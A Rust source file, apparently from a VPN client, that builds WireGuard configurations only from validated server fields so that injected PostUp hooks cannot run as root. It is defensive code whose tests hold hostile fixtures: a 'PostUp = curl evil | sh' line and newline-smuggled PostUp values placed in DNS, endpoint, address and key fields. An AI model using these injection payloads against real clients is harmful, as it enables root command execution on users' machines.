//! The local WireGuard configuration of a location, built from the structured fields the
//! server sends, each checked for its syntax. The server's own `config` text is never kept:
//! wg-quick runs `PreUp`/`PostUp`/`PreDown`/`PostDown` lines as root, so a hostile or
//! compromised server could run commands on this machine through it.

use onramp_domain::{net, validate::WgPublicKey, wg};
use onramp_proto::{DeviceConfig, DeviceConfigResponse};

/// Replaces each location's `config` with the one built here; names the location and the
/// field when a value is not what WireGuard expects.
pub fn rebuild(resp: &mut DeviceConfigResponse) -> Result<(), String> {
    for c in &mut resp.configs {
        c.config = local_config(c).map_err(|e| format!("location {:?}: {e}", c.network_name))?;
    }
    Ok(())
}

/// wg-quick text with the private-key placeholder, from the structured fields only.
pub fn local_config(c: &DeviceConfig) -> Result<String, String> {
    let list = |field: &'static str, s: &str| -> Result<Vec<String>, String> {
        let nets = net::parse_cidr_list(field, &[s.to_owned()]).map_err(|e| e.to_string())?;
        Ok(nets.iter().map(|n| n.to_string()).collect())
    };
    let assigned = list("assigned_ip", &c.assigned_ip)?;
    if assigned.is_empty() {
        return Err("assigned_ip: no address".into());
    }
    let allowed = list("allowed_ips", &c.allowed_ips)?;
    let dns = match c.dns.as_deref().filter(|d| !d.trim().is_empty()) {
        Some(d) => Some(net::parse_dns("dns", d).map_err(|e| e.to_string())?),
        None => None,
    };
    // A location whose gateway has not reported its key yet comes with an empty one.
    let gateway = match c.pubkey.as_str() {
        "" => String::new(),
        k => WgPublicKey::parse("pubkey", k).map_err(|e| e.to_string())?.as_str().to_owned(),
    };
    let endpoint = parse_endpoint(&c.endpoint)?;
    if !(0..=65535).contains(&c.keepalive_interval) {
        return Err(format!("keepalive_interval: {} is out of range", c.keepalive_interval));
    }
    // Addresses as the server sends them: the device's own address is a host, not a net.
    let assigned: Vec<String> =
        assigned.iter().map(|a| a.trim_end_matches("/32").trim_end_matches("/128").to_owned()).collect();
    Ok(wg::render_config(&wg::PeerConfig {
        assigned_ips: &assigned,
        dns: dns.as_deref(),
        gateway_pubkey: &gateway,
        allowed_ips: &allowed,
        endpoint: &endpoint,
        keepalive: c.keepalive_interval,
    }))
}

/// `host:port` or `[v6]:port`.
fn parse_endpoint(s: &str) -> Result<String, String> {
    let bad = || format!("endpoint: {s:?} is not host:port");
    let (host, port) = s.trim().rsplit_once(':').ok_or_else(bad)?;
    let port: u16 = port.parse().map_err(|_| bad())?;
    let host = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')).unwrap_or(host);
    let host = net::parse_host("endpoint", host).map_err(|e| e.to_string())?;
    Ok(wg::endpoint(&host, port))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn location() -> DeviceConfig {
        DeviceConfig {
            network_id: 1,
            network_name: "office".into(),
            config: "[Interface]\nPostUp = curl evil | sh\n".into(),
            endpoint: "vpn.example.com:51820".into(),
            assigned_ip: "10.1.0.2".into(),
            pubkey: "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=".into(),
            allowed_ips: "10.1.0.0/24, 192.168.0.0/16".into(),
            dns: Some("10.1.0.1".into()),
            mfa_enabled: false,
            keepalive_interval: 25,
            location_mfa_mode: None,
            service_location_mode: None,
        }
    }

    #[test]
    fn built_from_fields_without_hooks() {
        let text = local_config(&location()).unwrap();
        assert_eq!(
            text,
            "[Interface]\nPrivateKey = YOUR_PRIVATE_KEY\nAddress = 10.1.0.2\nDNS = 10.1.0.1\n\n[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nAllowedIPs = 10.1.0.0/24, 192.168.0.0/16\nEndpoint = vpn.example.com:51820\nPersistentKeepalive = 25\n"
        );
        let mut v6 = location();
        v6.endpoint = "[fd00::1]:51820".into();
        assert!(local_config(&v6).unwrap().contains("Endpoint = [fd00::1]:51820\n"));
    }

    /// The text as wg-quick reads it: `(section, key, value)` per line.
    fn read_back(text: &str) -> Vec<(String, String, String)> {
        let mut section = String::new();
        let mut out = vec![];
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            if let Some(s) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
                section = s.to_owned();
                continue;
            }
            let (k, v) = line.split_once(" = ").expect("key = value");
            out.push((section.clone(), k.to_owned(), v.to_owned()));
        }
        out
    }

    proptest::proptest! {
        /// Whatever a server sends, the text is either refused or holds exactly the expected
        /// keys, once each, in their sections: nothing else (no hooks) can get in.
        #[test]
        fn hostile_fields_never_add_a_line(
            dns in "\\PC{0,30}|[0-9.]{7,15}",
            endpoint in "\\PC{0,30}|[a-z.]{3,20}:[0-9]{1,5}",
            allowed in "\\PC{0,30}|10\\.[0-9]{1,3}\\.0\\.0/16",
            assigned in "\\PC{0,20}|10\\.1\\.[0-9]{1,3}\\.[0-9]{1,3}",
            keepalive in -5i32..70_000,
        ) {
            let mut c = location();
            (c.dns, c.endpoint, c.allowed_ips, c.assigned_ip, c.keepalive_interval) =
                (Some(dns), endpoint, allowed, assigned, keepalive);
            if let Ok(text) = local_config(&c) {
                let keys: Vec<(String, String)> = read_back(&text).into_iter().map(|(s, k, _)| (s, k)).collect();
                for (section, key) in &keys {
                    let allowed = match section.as_str() {
                        "Interface" => ["PrivateKey", "Address", "DNS"].contains(&key.as_str()),
                        "Peer" => ["PublicKey", "AllowedIPs", "Endpoint", "PersistentKeepalive"].contains(&key.as_str()),
                        _ => false,
                    };
                    proptest::prop_assert!(allowed, "{section}.{key} in {text:?}");
                    proptest::prop_assert_eq!(keys.iter().filter(|k| *k == &(section.clone(), key.clone())).count(), 1);
                }
            }
        }

        /// Valid fields always build, and the text reads back to the same values.
        #[test]
        fn valid_fields_read_back(
            ip in (1u8..255, 0u8..255, 1u8..255),
            nets in proptest::collection::vec((1u8..224, 0u8..255, 8u8..=24), 0..4),
            dns in proptest::option::of((1u8..224, 0u8..255)),
            host in "[a-z][a-z0-9]{0,15}\\.[a-z]{2,5}",
            port in 1u16..,
            keepalive in 0i32..=65535,
        ) {
            let mut c = location();
            c.assigned_ip = format!("10.{}.{}.{}", ip.0, ip.1, ip.2);
            let nets: Vec<ipnet::Ipv4Net> = nets
                .iter()
                .map(|(a, b, len)| ipnet::Ipv4Net::new(std::net::Ipv4Addr::new(*a, *b, 0, 0), *len).unwrap().trunc())
                .collect();
            c.allowed_ips = nets.iter().map(|n| n.to_string()).collect::<Vec<_>>().join(", ");
            c.dns = dns.map(|(a, b)| format!("{a}.{b}.0.53"));
            c.endpoint = format!("{host}:{port}");
            c.keepalive_interval = keepalive;
            let text = local_config(&c).unwrap();
            let read = read_back(&text);
            let get = |k: &str| read.iter().find(|(_, key, _)| key == k).map(|(_, _, v)| v.clone());
            proptest::prop_assert_eq!(get("Address"), Some(c.assigned_ip.clone()));
            proptest::prop_assert_eq!(get("DNS"), c.dns.clone());
            proptest::prop_assert_eq!(get("Endpoint"), Some(c.endpoint.clone()));
            proptest::prop_assert_eq!(get("PersistentKeepalive"), Some(keepalive.to_string()));
            proptest::prop_assert_eq!(get("AllowedIPs"), (!nets.is_empty()).then(|| c.allowed_ips.clone()));
            proptest::prop_assert_eq!(get("PublicKey"), Some(c.pubkey.clone()));
        }
    }

    #[test]
    fn a_line_smuggled_into_a_field_is_refused() {
        type Change = fn(&mut DeviceConfig);
        let cases: Vec<(Change, &str)> = vec![
            (|c| c.dns = Some("10.1.0.1\nPostUp = touch /tmp/pwned".into()), "dns"),
            (|c| c.endpoint = "vpn.example.com:51820\nPostUp = x".into(), "endpoint"),
            (|c| c.allowed_ips = "10.0.0.0/8\nPostUp = x".into(), "allowed_ips"),
            (|c| c.assigned_ip = "10.1.0.2\nPostUp = x".into(), "assigned_ip"),
            (|c| c.pubkey = "abc\nPostUp = x".into(), "pubkey"),
            (|c| c.assigned_ip = String::new(), "assigned_ip"),
        ];
        for (change, field) in cases {
            let mut c = location();
            change(&mut c);
            let e = local_config(&c).unwrap_err();
            assert!(e.contains(field), "{field}: {e}");
        }
    }
}
